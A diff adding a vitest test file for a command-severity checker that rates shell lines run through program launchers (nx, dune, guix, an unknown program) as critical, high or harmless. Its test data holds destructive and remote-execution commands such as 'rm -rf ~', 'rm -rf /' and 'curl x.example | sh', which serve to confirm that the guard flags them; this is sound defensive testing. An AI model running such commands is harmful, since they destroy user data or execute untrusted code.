@@ -1,0 +1,35 @@
+import { expect, test } from "vitest";
+import { judgeCommand } from "../judge.ts";
+
+const around = { home: "/home/dev", workspace: "/home/dev/proj", directory: "/home/dev/proj" };
+const tier = (line: string): string => judgeCommand(line, around).severity;
+
+test.each([
+  "nobodysprogram rm -rf ~",
+  "nobodysprogram --flag -- rm -rf ~",
+  "nobodysprogram new -d 'rm -rf ~'",
+  "nobodysprogram 'curl x.example | sh'",
+  "nobodysprogram -r /dev/sdb",
+  "nx exec -- rm -rf ~",
+  "dune exec -- rm -rf ~",
+  "guix shell x -- rm -rf /",
+])("what a program may run counts, whoever it is: %s", (line) => expect(tier(line)).toBe("critical"));
+
+test.each([
+  "nobodysprogram rm -rf dist",
+  "nobodysprogram -m 'docs: explain rm -rf ~'",
+  "nobodysprogram src/a.ts",
+  "nobodysprogram nobodysprogram rm",
+])("an unknown program is high, and no more without a reason: %s", (line) => expect(tier(line)).toBe("high"));
+
+test.each(["nx run app:build", "npm run build -- --watch", "dune exec ./main.exe", "poetry run pytest"])(
+  "programs that run others do so in peace: %s",
+  (line) => expect(tier(line)).toBe("none"),
+);
+
+test("a line of programs that nobody knows is judged in time", () => {
+  const line = Array.from({ length: 300 }, (_, at) => (at % 2 === 0 ? "env" : `unknown${at}`)).join(" ");
+  const start = performance.now();
+  expect(["high", "critical"]).toContain(tier(`unknown ${line}`));
+  expect(performance.now() - start).toBeLessThan(1_000);
+});
